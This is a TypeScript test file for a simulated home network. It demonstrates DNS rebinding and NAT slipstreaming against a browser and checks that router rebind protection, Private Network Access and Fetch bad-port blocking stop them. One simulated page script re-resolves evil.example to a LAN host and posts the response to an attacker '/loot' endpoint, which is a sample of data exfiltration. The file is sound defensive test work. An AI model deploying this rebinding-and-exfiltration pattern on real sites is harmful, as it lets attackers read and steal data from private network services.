// The dns-rebinding and nat-slipstream web-visitor sequences with real packets on seed-home: U's browser loads
// Mallory's page for evil.example, the name is re-resolved after its 1-second TTL to S, and the page's script
// reads S:8080's answer as same-origin and posts it to Mallory; then each defence: the router's rebind
// protection, the browser's Private Network Access, and the Fetch bad-port list.

import { describe, expect, it } from "vitest";
import { HTTP_RESPONSE } from "../host-stack.js";
import { describePacketBytes } from "../node.js";
import { buildSeedHome } from "../seed-home.fixture.js";
import type { SeedHome } from "../seed-home.fixture.js";
import { installAuthoritativeDns } from "./authoritative-dns.js";
import type { BrowserOptions, FetchOutcome, PageScript } from "./browser.js";
import { Browser, addressSpace, parseUrl } from "./browser.js";
import type { DnsResolverHandle, DnsResolverOptions } from "./dns-resolver.js";
import { installDnsResolver } from "./dns-resolver.js";
import { bodyText, httpResponse, serveHttp } from "./http.js";
import { parseIpv4 } from "../../wire/address.js";

const PAGE = "<html><script>/* rebinding payload */</script></html>";
const EVIL = "http://evil.example:8080/";

interface Rig {
  readonly h: SeedHome;
  readonly browser: Browser;
  readonly resolver: DnsResolverHandle;
  /** Bodies POSTed to Mallory's /loot. */
  readonly loot: string[];
}

function rig(resolver: Partial<DnsResolverOptions> = {}, browser: Partial<BrowserOptions> = {}): Rig {
  const h = buildSeedHome();
  installAuthoritativeDns(h.mallory, {
    zones: {
      "evil.example": [
        { address: "203.0.113.66", ttl: 1 },
        { address: "192.168.1.20", ttl: 1 },
      ],
    },
  });
  const loot: string[] = [];
  serveHttp(h.mallory, 8080, (req) => {
    if (req.method === "POST" && req.target === "/loot") {
      loot.push(bodyText(req));
      return httpResponse(204, "No Content", "");
    }
    return httpResponse(200, "OK", PAGE, { "content-type": "text/html" });
  });
  const res = installDnsResolver(h.router, {
    clock: h.sim.clock,
    listen: ["192.168.1.1"],
    upstream: { address: "203.0.113.66" },
    rebindProtection: false,
    ...resolver,
  });
  const b = new Browser(h.u, { clock: h.sim.clock, resolver: "192.168.1.1", ...browser });
  return { h, browser: b, resolver: res, loot };
}

/** The attack page's script: wait out the TTL, fetch the same origin again, send what it read to Mallory. */
function rebindScript(out: FetchOutcome[]): PageScript {
  return (page) => {
    page.after(2000, () => {
      page.fetch(EVIL, (r) => {
        out.push(r);
        if (r.kind === "response" && r.body !== null) page.post("http://203.0.113.66:8080/loot", r.body);
      });
    });
  };
}

function play(r: Rig): { page: FetchOutcome | null; script: FetchOutcome[] } {
  const script: FetchOutcome[] = [];
  let page: FetchOutcome | null = null;
  r.browser.visit(EVIL, rebindScript(script), (x) => (page = x));
  r.h.sim.run({ until: 10_000 });
  return { page, script };
}

describe("dns-rebinding", () => {
  it("breached on seed-home: the script reads S:8080 as same-origin and exfiltrates it", () => {
    const r = rig();
    const { page, script } = play(r);
    expect(page).toMatchObject({ kind: "response", status: 200, readable: true, body: PAGE, address: "203.0.113.66" });
    const body = HTTP_RESPONSE.slice(HTTP_RESPONSE.indexOf("\r\n\r\n") + 4);
    expect(script).toEqual([{ kind: "response", status: 200, readable: true, body, address: "192.168.1.20" }]);
    expect(r.loot).toEqual([body]);
    // S saw a connection from U (inside the LAN), not from the internet.
    const lan = r.h.sim.segments.get("lan")!.captures.map((c) => describePacketBytes(c.bytes));
    expect(lan).toContainEqual(expect.stringMatching(/^192\.168\.1\.10:\d+ > 192\.168\.1\.20:8080$/));
    expect(r.browser.log.filter((e) => e.what === "resolve").map((e) => e.detail)).toEqual([
      "evil.example → 203.0.113.66 (TTL 1s)",
      "evil.example → 192.168.1.20 (TTL 1s)",
    ]);
  });

  it("within the TTL the cached address is reused (no second query): the script reads Mallory's page", () => {
    const r = rig();
    const out: FetchOutcome[] = [];
    r.browser.visit(EVIL, (page) => {
      page.fetch(EVIL, (x) => out.push(x));
    });
    r.h.sim.run({ until: 10_000 });
    expect(out).toMatchObject([{ kind: "response", address: "203.0.113.66", body: PAGE }]);
  });

  it("blocked by the router's rebind protection: the second answer is emptied and logged", () => {
    const r = rig({ rebindProtection: true, documentationAddressesArePublic: true });
    const { page, script } = play(r);
    expect(page).toMatchObject({ kind: "response", address: "203.0.113.66" });
    expect(script).toEqual([{ kind: "dns-failure", detail: "evil.example: no address in the answer" }]);
    expect(r.resolver.rebindEvents.map((e) => e.message)).toEqual([
      "possible DNS-rebind attack detected: evil.example → 192.168.1.20",
    ]);
    expect(r.loot).toEqual([]);
  });

  it("with dnsmasq's full list the page itself never loads (Mallory's TEST-NET address counts as private)", () => {
    const r = rig({ rebindProtection: true });
    const { page, script } = play(r);
    expect(page).toEqual({ kind: "dns-failure", detail: "evil.example: no address in the answer" });
    expect(script).toEqual([]);
  });

  it("blocked by Private Network Access in the browser: nothing is sent to S", () => {
    const r = rig({}, { privateNetworkAccess: true });
    const { script } = play(r);
    expect(script).toEqual([
      {
        kind: "blocked",
        reason: "private-network-access",
        detail: "a public page may not reach private address 192.168.1.20",
      },
    ]);
    const lan = r.h.sim.segments.get("lan")!.captures.map((c) => describePacketBytes(c.bytes));
    expect(lan.some((p) => p.includes("192.168.1.20:8080"))).toBe(false);
  });
});

describe("cross-origin and bad ports", () => {
  it("a cross-origin fetch goes out but its answer is opaque", () => {
    const r = rig();
    const out: FetchOutcome[] = [];
    r.browser.visit(EVIL, (page) => {
      page.fetch("http://203.0.113.80/", (x) => out.push(x));
    });
    r.h.sim.run({ until: 10_000 });
    expect(out).toEqual([{ kind: "response", status: 200, readable: false, body: null, address: "203.0.113.80" }]);
  });

  it("nat-slipstream's POST to Mallory:5060 is refused before any packet leaves (Fetch bad port)", () => {
    const r = rig();
    const out: FetchOutcome[] = [];
    r.browser.visit(EVIL, (page) => {
      page.post("http://203.0.113.66:5060/", "REGISTER sip:x SIP/2.0\r\n", (x) => out.push(x));
    });
    r.h.sim.run({ until: 10_000 });
    expect(out).toEqual([{ kind: "blocked", reason: "bad-port", detail: "port 5060 is a Fetch bad port" }]);
    const wan = r.h.sim.segments.get("wan")!.captures.map((c) => describePacketBytes(c.bytes));
    expect(wan.some((p) => p.endsWith(":5060"))).toBe(false);
  });

  it("classifies address spaces and parses http URLs", () => {
    expect(addressSpace(parseIpv4("127.0.0.1")!)).toBe("local");
    expect(addressSpace(parseIpv4("192.168.1.20")!)).toBe("private");
    expect(addressSpace(parseIpv4("203.0.113.66")!)).toBe("public");
    expect(parseUrl("http://evil.example:8080/a?b=1")).toEqual({
      host: "evil.example",
      port: 8080,
      path: "/a?b=1",
      origin: "http://evil.example:8080",
    });
    expect(parseUrl("http://evil.example/")?.origin).toBe("http://evil.example:80");
    expect(parseUrl("https://evil.example/")).toBeNull();
    expect(parseUrl("not a url")).toBeNull();
  });
});
